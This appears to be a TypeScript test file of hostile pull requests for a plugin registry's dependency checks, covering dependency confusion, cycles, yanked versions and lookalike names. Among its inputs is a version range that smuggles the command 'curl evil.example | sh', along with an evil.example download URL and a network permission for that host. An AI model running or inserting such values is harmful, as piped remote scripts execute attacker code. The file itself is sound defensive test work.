// Exists so that dependencies are tried as a way in: names that anyone could claim, circles, versions that are gone.
import {
  alice,
  aliceKey,
  carol,
  type FileMap,
  newPlugin,
  placed,
  record,
  release,
} from '../../support/case-registry.ts';
import type { HostilePull, PullGroup } from '../../support/hostile-pull.ts';
import { manifestFile } from './places.ts';

/** A release with dependencies that the one before it had as well, so that nothing is new about them. */
const depends = (
  attack: string,
  dependencies: Readonly<Record<string, string>>,
  { finds, base = {} }: { readonly finds: string; readonly base?: FileMap },
): HostilePull => ({
  attack,
  verdict: 'FAIL',
  finds: [finds],
  pull: async (workshop) => {
    const before = await release({ version: '1.0.1', manifest: { dependencies } });
    return {
      base: workshop.commit({ ...before, ...base }, workshop.start),
      head: await release({ manifest: { dependencies } }),
    };
  },
});

const unsatisfiable = `dependencies/are-satisfiable ${manifestFile}:8:19`;

const range = (attack: string, text: string): HostilePull => ({
  attack,
  verdict: 'FAIL',
  finds: [`manifest/is-valid ${manifestFile}:9:19`],
  says: text,
  pull: async () => ({ head: await release({ manifest: { dependencies: { 'utf8-tools': text } } }) }),
});

export const dependencies: PullGroup = {
  title: 'Dependencies',
  pulls: [
    depends(
      'A dependency on a name that nobody has taken yet',
      { 'internal-billing': '^1.0.0' },
      { finds: `dependencies/exist ${manifestFile}:9:25` },
    ),
    depends(
      'A dependency on a name in an organisation that does not exist',
      { '@contoso/billing': '^1.0.0' },
      { finds: `dependencies/exist ${manifestFile}:9:25` },
    ),
    depends(
      'A dependency on the plugin itself',
      { slugify: '^1.0.0' },
      { finds: `dependencies/have-no-cycle ${manifestFile}:9:16` },
    ),
    depends(
      'A dependency called like a part of every object',
      { constructor: '^1.0.0' },
      { finds: `dependencies/exist ${manifestFile}:9:20` },
    ),
    depends('A dependency on a version that there is not', { 'utf8-tools': '^9.0.0' }, { finds: unsatisfiable }),
    depends(
      'A dependency on a release that was yanked',
      { 'utf8-tools': '1.1.0' },
      {
        finds: unsatisfiable,
        base: { 'registry/plugins/utf8-tools/yanked/1.1.0.json': { format: 1, reason: 'It is broken.' } },
      },
    ),
    depends(
      'A dependency on a release that was removed',
      { 'utf8-tools': '1.1.0' },
      {
        finds: unsatisfiable,
        base: { 'registry/plugins/utf8-tools/removed/1.1.0.json': { format: 1, reason: 'It was malware.' } },
      },
    ),
    range('A range that is a command line', '^1.0.0; curl evil.example | sh'),
    range('A range that is an address', 'https://evil.example/x.tgz'),
    {
      attack: 'A circle that closes through the new version',
      verdict: 'FAIL',
      finds: [
        'dependencies/have-no-cycle registry/plugins/utf8-tools/1.2.0/plugin.json:9:17',
        'review/adds-no-dependency registry/plugins/utf8-tools/1.2.0/plugin.json:9:17',
      ],
      pull: async (workshop) => ({
        base: workshop.commit(
          await newPlugin({ name: 'text-kit', manifest: { dependencies: { '@acme/json-format': '^1.0.0' } } }),
          workshop.start,
        ),
        head: await release({
          name: 'utf8-tools',
          version: '1.2.0',
          manifest: { dependencies: { 'text-kit': '^1.0.0' } },
        }),
      }),
    },
    {
      attack: 'An update pulls in a plugin that nobody has looked at',
      verdict: 'HOLD',
      finds: ['review/adds-no-dependency registry/plugins/slugify/1.1.0/plugin.json:9:19'],
      pull: async () => ({ head: await release({ manifest: { dependencies: { 'utf8-tools': '^1.0.0' } } }) }),
    },
    {
      attack: 'An update pulls in an optional plugin, which is installed all the same',
      verdict: 'HOLD',
      finds: ['review/adds-no-dependency registry/plugins/slugify/1.1.0/plugin.json:9:19'],
      pull: async () => ({
        head: await release({ manifest: { dependencies: { 'utf8-tools': { version: '^1.0.0', optional: true } } } }),
      }),
    },
    {
      attack: 'An update asks for the network, which the release before did not',
      verdict: 'HOLD',
      finds: ['review/asks-for-nothing-new registry/plugins/slugify/1.1.0/plugin.json:8:18'],
      pull: async () => ({ head: await release({ manifest: { permissions: { network: ['evil.example'] } } }) }),
    },
    {
      attack: 'A lookalike of a dependency is released, to be typed by mistake',
      verdict: 'HOLD',
      finds: [
        'manifest/name-is-not-lookalike registry/plugins/rnodern-css/1.0.0/plugin.json:3:11',
        'review/plugin-is-established',
      ],
      pull: async (workshop) => ({
        base: workshop.commit(
          placed('registry/plugins', { 'modern-css/record.json': record([carol], [aliceKey.publisher]) }),
          workshop.start,
        ),
        head: await newPlugin({ name: 'rnodern-css' }),
        author: alice,
      }),
    },
    {
      attack: 'A manifest has two hundred and one dependencies',
      verdict: 'FAIL',
      finds: [`manifest/is-valid ${manifestFile}:8:19`],
      pull: async () => {
        const names = Array.from({ length: 201 }, (_, index) => [`plugin-${index}`, '^1.0.0'] as const);
        return { head: await release({ manifest: { dependencies: Object.fromEntries(names) } }) };
      },
    },
  ],
};
